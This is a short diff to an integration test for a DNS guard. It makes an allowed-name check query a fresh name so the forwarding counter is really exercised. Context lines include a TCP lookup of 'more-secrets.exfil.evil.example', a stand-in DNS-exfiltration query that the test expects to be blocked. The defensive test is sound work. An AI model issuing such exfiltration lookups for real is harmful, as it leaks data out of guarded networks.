@@ -114,7 +114,8 @@ describe('integration: DNS guard', () => {
     const tcp = await one('--name', 'more-secrets.exfil.evil.example', '--tcp');
     assert.equal(tcp.rcode, 3);
     assert.deepEqual(await worldDnsPackets(), before, 'no DNS packet reached the world');
-    await one('--name', 'api.sluice.test');
+    // A name not asked before (api.sluice.test would come from the guard's cache).
+    await one('--name', 'counted.race.sluice.test');
     const after = await worldDnsPackets();
     assert.ok((after.resolver ?? 0) + (after.resolver6 ?? 0) > (before.resolver ?? 0) + (before.resolver6 ?? 0), 'an allowed name is forwarded (the counter works)');
   });
